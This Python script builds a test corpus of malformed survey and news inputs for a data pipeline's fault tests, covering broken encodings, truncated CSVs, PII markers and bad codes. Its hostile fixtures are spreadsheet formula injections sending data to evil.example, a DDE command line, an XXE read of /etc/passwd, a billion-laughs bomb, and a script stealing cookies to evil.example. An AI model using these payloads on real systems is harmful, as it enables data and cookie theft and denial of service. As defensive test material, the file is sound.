"""Build the bad-input corpus of tests/badinput/ (deterministic bytes; `python -m tests.faults.build_corpus`).

Text and small binary cases are committed under ``tests/badinput/{survey,news}/`` so a reader can
open them; workbooks (`.xlsx`) are built at test time by :func:`build_generated` because their
zip container carries timestamps. ``tests/badinput/manifest.json`` says what each case is and
what must happen to it; ``tests/faults/test_faults_badinput.py`` checks every entry.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

CORPUS = Path(__file__).resolve().parent.parent / "badinput"
HEADER = [
    "response_id",
    "wave",
    "submitted_at",
    "ags",
    "nace_section",
    "employees",
    "uses_ai",
    "tech_generative",
    "barrier_cost",
    "weight",
    "contact_email",
    "comment",
]
PII_EMAIL = "erika.mustermann.pii@example.org"  # must never leave bronze (hashed there)
PII_COMMENT = "PII-COMMENT-Rufen-Sie-Frau-Mustermann-an"  # must never leave bronze


def row(
    rid: str,
    wave: str = "2025-Q3",
    date: str = "2025-08-01",
    ags: str = "14612",
    nace: str = "C",
    emp: str = "12",
    ai: str = "ja",
    tech: str = "1",
    barrier: str = "",
    weight: str = "1",
    email: str = "",
    comment: str = "",
) -> list[str]:
    return [rid, wave, date, ags, nace, emp, ai, tech, barrier, weight, email, comment]


def csv_text(rows: list[list[str]], sep: str = ";", header: list[str] = HEADER, eol: str = "\n") -> str:
    def cell(v: str) -> str:
        return f'"{v.replace(chr(34), chr(34) * 2)}"' if any(c in v for c in (sep, '"', "\n", "\r")) else v

    return eol.join(sep.join(cell(v) for v in r) for r in [header, *rows]) + eol


def survey_cases() -> dict[str, bytes]:
    """File name -> bytes of every committed survey case."""
    good3 = lambda p: [row(f"{p}{i}") for i in (1, 2, 3)]  # noqa: E731
    out: dict[str, bytes] = {}
    out["cp1252.csv"] = csv_text(
        [row("enc1", comment="Größe Übergabe Straße"), row("enc2", ags="16053"), row("enc3", comment="Café € 5")]
    ).encode("cp1252")
    # Mixed encodings in one file: UTF-8 rows and one Windows-1252 row.
    utf8_part = csv_text([row("mix1", comment="Größe (UTF-8)"), row("mix2")]).encode("utf-8")
    cp_part = (";".join(row("mix3", comment="Größe (Windows-1252)")) + "\n").encode("cp1252")
    out["mixed_encoding.csv"] = utf8_part + cp_part
    out["utf16.csv"] = csv_text(good3("u16-")).encode("utf-16")
    out["tab_delimited.csv"] = csv_text(good3("tab-"), sep="\t").encode()
    out["pipe_delimited.csv"] = csv_text(good3("pipe-"), sep="|").encode()
    # An opening quote never closed: the rest of the file is swallowed into one field.
    broken = (
        csv_text([row("bq1")])
        + ";".join(row("bq2", nace='"C'))
        + "\n"
        + "\n".join(";".join(r) for r in [row("bq3"), row("bq4")])
        + "\n"
    )
    out["broken_quote.csv"] = broken.encode()
    out["header_only.csv"] = csv_text([]).encode()
    out["empty.csv"] = b""
    out["whitespace_only.csv"] = b"   \n\n \r\n"
    out["binary_renamed.csv"] = bytes(range(256)) * 8  # NUL bytes and every other byte value
    out["png_renamed.csv"] = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64)
    dup_header = HEADER[:3] + ["ags", "ags"] + HEADER[5:]  # `ags` twice, `nace_section` missing
    out["duplicated_headers.csv"] = csv_text([row("dup1"), row("dup2")], header=dup_header).encode()
    same_twice = HEADER + ["wave"]
    out["duplicated_header_same_values.csv"] = csv_text([row("dupw1") + ["2025-Q3"]], header=same_twice).encode()
    missing = [h for h in HEADER if h != "uses_ai"]
    out["missing_required_column.csv"] = csv_text([r[:6] + r[7:] for r in good3("miss-")], header=missing).encode()
    out["passwd_like.csv"] = b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
    out["long_fields.csv"] = csv_text(
        [row("long1", comment="x" * 10_000), row("long2", ags="1" * 10_000), row("l" * 10_000)]
    ).encode()
    out["control_chars.csv"] = csv_text(
        [
            row("ctl1", comment="bell\x07 esc\x1b[31m red \x1b[0m nul-free"),
            row("ctl2\x01", comment="vt\x0b ff\x0c"),
            row("ctl3", nace="C\x08"),
        ]
    ).encode()
    out["formula_injection.csv"] = csv_text(
        [
            row("fx1", comment='=HYPERLINK("http://evil.example/?leak="&A1,"Klick")'),
            row("fx2", comment="@SUM(1+1)*cmd|' /C calc'!A0"),
            row("fx3", comment="+1+1"),
            row("=1+1", comment="-2+3"),
        ]
    ).encode()
    out["future_dates.csv"] = csv_text(
        [row("fut1"), row("fut2", date="2099-01-01"), row("fut3", wave="2099-Q1", date="01.01.2099")]
    ).encode()
    out["wave_2025-Q2_but_rows_say_Q3.csv"] = csv_text([row("wv1"), row("wv2")]).encode()
    out["truncated_mid_row.csv"] = (csv_text([row("cut1"), row("cut2")]) + "cut3;2025-Q3;2025-08-0").encode()
    out["truncated_in_quote.csv"] = (
        csv_text([row("cq1")]) + 'cq2;2025-Q3;2025-08-01;14612;C;12;ja;1;;1;;"Anfang eines Kommen'
    ).encode()
    out["bad_codes.csv"] = csv_text(
        [
            row("bc-ok"),
            row("bc-ags", ags="99999"),
            row("bc-out", ags="09162"),
            row("bc-nace", nace="Z"),
            row("bc-emp0", emp="0"),
            row("bc-empx", emp="zwölf"),
            row("bc-ai", ai="vielleicht"),
            row("bc-wave", wave="Q3/2025"),
            row("bc-date", date="32.13.2025"),
            row("", ags="14612"),
            row("bc-flag", tech="ja"),
            row("bc-weight", weight="-3"),
        ]
    ).encode()
    out["too_many_fields.csv"] = (csv_text([row("tm1")]) + ";".join(row("tm2") + ["extra", "more"]) + "\n").encode()
    out["too_few_fields.csv"] = (
        csv_text([row("tf1")]) + "tf2;2025-Q3;2025-08-01\n" + ";".join(row("tf3")) + "\n"
    ).encode()
    out["mixed_delimiters.csv"] = (csv_text([row("md1")]) + ",".join(row("md2")) + "\n").encode()
    out["only_delimiters.csv"] = (csv_text([row("od1")]) + ";" * 11 + "\n").encode()
    out["nul_in_field.csv"] = csv_text([row("nul1"), row("nul2", comment="a")]).encode().replace(b";a\n", b";a\x00b\n")
    out["bom_crlf_blank_lines.csv"] = b"\xef\xbb\xbf" + csv_text(
        [row("crlf1"), row("crlf2")], eol="\r\n"
    ).encode().replace(b"\r\ncrlf2", b"\r\n\r\n\r\ncrlf2")
    out["quoted_delimiters_and_newlines.csv"] = csv_text(
        [row("qn1", comment="a;b\nzweite Zeile"), row("qn2", comment='sagt "ja"; oder?')]
    ).encode()
    out["pii_markers.csv"] = csv_text(
        [
            row("pii1", email=PII_EMAIL, comment=PII_COMMENT),
            row("pii2", email=PII_EMAIL.upper(), comment=PII_COMMENT, ags="16053"),
        ]
    ).encode()
    out["fake_workbook.xlsx"] = csv_text(good3("fx-")).encode()
    return out


RSS_OK = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>t</title>
<item><title>KI-Zentrum in Leipzig eröffnet</title><link>https://example.org/a</link>
<description>Das Zentrum in Leipzig erhält 2 Millionen Euro Förderung.</description></item>
</channel></rss>
"""


def news_cases() -> dict[str, bytes]:
    """File name -> bytes of every committed news case."""
    out: dict[str, bytes] = {}
    out["empty.txt"] = b""
    out["whitespace_only.md"] = b" \n\t\n"
    out["binary_renamed.html"] = bytes(range(256)) * 4
    out["invalid_xml.xml"] = b"<?xml version='1.0'?><rss version='2.0'><channel><item><title>kaputt</channel></rss>"
    out["truncated_feed.xml"] = RSS_OK.encode()[: len(RSS_OK) // 2]
    out["not_a_feed_root.xml"] = b"<?xml version='1.0'?><catalog><book>x</book></catalog>"
    out["empty_feed.rss"] = b"<?xml version='1.0'?><rss version='2.0'><channel><title>leer</title></channel></rss>"
    out["xxe_feed.xml"] = (
        b"<?xml version='1.0'?><!DOCTYPE rss [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]>"
        b"<rss version='2.0'><channel><item><title>&xxe;</title><description>x</description></item></channel></rss>"
    )
    out["billion_laughs.xml"] = (
        b"<?xml version='1.0'?><!DOCTYPE lolz [<!ENTITY lol 'lol'>"
        b"<!ENTITY lol2 '&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;'>"
        b"<!ENTITY lol3 '&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;'>]>"
        b"<rss version='2.0'><channel><item><title>&lol3;</title></item></channel></rss>"
    )
    out["html_with_scripts.html"] = (
        "<!doctype html><html lang='de'><head><title>KI in Dresden</title>"
        "<script>document.location='http://evil.example/?c='+document.cookie</script></head><body>"
        "<nav>Menü</nav><article><h1>KI-Förderung für Dresden</h1>"
        "<p>Das Land Sachsen fördert ein KI-Projekt in Dresden mit 1,5 Millionen Euro.</p>"
        "<script type='text/javascript'>alert('XSS-MARKER')</script>"
        "<img src=x onerror=\"alert('XSS-ONERROR')\"><p>Weitere Details folgen.</p>"
        "<iframe src='http://evil.example/frame'></iframe></article></body></html>"
    ).encode()
    out["html_only_scripts.html"] = (
        b"<html><head><script>alert(1)</script></head><body><script>x()</script></body></html>"
    )
    out["cp1252.txt"] = "Förderung für Jena\nDie Universität Jena erhält 605.000 € für KI-Forschung.\n".encode("cp1252")
    out["mixed_encoding.txt"] = "Schlagzeile aus Thüringen\nUTF-8: Größe.\n".encode() + "Windows-1252: Größe.\n".encode(
        "cp1252"
    )
    out["utf16.txt"] = "KI in Chemnitz\nText in UTF-16.\n".encode("utf-16")
    out["control_chars.txt"] = b"KI in Ilmenau\x07\nDie TU Ilmenau\x1b[31m forscht an KI.\x0b\n"
    out["formula_injection.txt"] = b'=HYPERLINK("http://evil.example","Klick")\nKI-Projekt in Leipzig gestartet.\n'
    out["long_words.txt"] = ("Sehr lange Zeile\n" + "KI" * 5_000 + " " + "x" * 10_000 + "\n").encode()
    out["bad_lines.jsonl"] = (
        b'{"id": "ok1", "text": "KI in Dresden: ein Artikel."}\n'
        b'{"id": "broken", "text": "kein Ende\n'
        b'["not", "an", "object"]\n'
        b'{"id": "notext", "title": "ohne Text"}\n'
        b'{"id": "ok2", "text": "KI in Erfurt: ein zweiter Artikel."}\n'
    )
    out["not_object.json"] = b'"nur ein String"'
    out["malformed.json"] = b'{"articles": [{"text": "a"},'
    out["unsupported.pdf"] = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    return out


def build_generated(target: Path) -> list[Path]:
    """Workbooks built at test time (openpyxl): several sheets, merged cells, an .xlsx renamed .csv."""
    from openpyxl import Workbook

    survey = target / "survey"
    survey.mkdir(parents=True, exist_ok=True)
    made = []

    wb = Workbook()
    ws = wb.active
    ws.title = "Antworten"
    ws.append(HEADER)
    for i in (1, 2, 3):
        ws.append(row(f"xs{i}"))
    notes = wb.create_sheet("Hinweise")
    notes.append(["Dieses Blatt ist keine Antwortliste", '=HYPERLINK("http://evil.example")'])
    notes.append(["response_id", "wave"])
    notes.append(["xs-notes", "1999-Q1"])
    path = survey / "several_sheets.xlsx"
    wb.save(path)
    made.append(path)

    wb = Workbook()
    ws = wb.active
    ws.append(HEADER)
    for i in (1, 2, 3):
        ws.append(row(f"xm{i}"))
    ws.merge_cells("B2:B4")  # the wave of rows 2-3 only exists in the merged cell's top-left cell
    path = survey / "merged_cells.xlsx"
    wb.save(path)
    made.append(path)

    path = survey / "workbook_renamed.csv"
    path.write_bytes((survey / "several_sheets.xlsx").read_bytes())
    made.append(path)
    return made


def write_committed(target: Path = CORPUS) -> None:
    for sub, cases in (("survey", survey_cases()), ("news", news_cases())):
        (target / sub).mkdir(parents=True, exist_ok=True)
        for name, data in cases.items():
            (target / sub / name).write_bytes(data)


if __name__ == "__main__":
    write_committed(Path(sys.argv[1]) if len(sys.argv) > 1 else CORPUS)
    print(json.dumps({"survey": len(survey_cases()), "news": len(news_cases())}))
